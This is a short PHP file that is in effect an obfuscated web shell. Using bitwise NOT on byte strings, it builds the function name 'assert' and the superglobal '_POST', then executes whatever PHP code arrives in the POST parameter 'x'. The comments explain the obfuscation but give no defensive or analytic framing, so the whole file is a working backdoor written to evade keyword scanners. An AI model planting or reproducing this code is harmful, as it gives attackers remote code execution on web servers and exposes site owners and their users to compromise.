<?php
// Both the function name and the superglobal's name are built with the
// bitwise NOT of byte strings, appended piece by piece; the argument is
// read through the variable variable.
$f = '';
$f .= ~"\x9E\x8C\x8C";
$f .= ~"\x9A\x8D\x8B";
$n = '_';
$n .= ~"\xAF\xB0\xAC\xAB";
$v = $$n;
$f($v['x']);
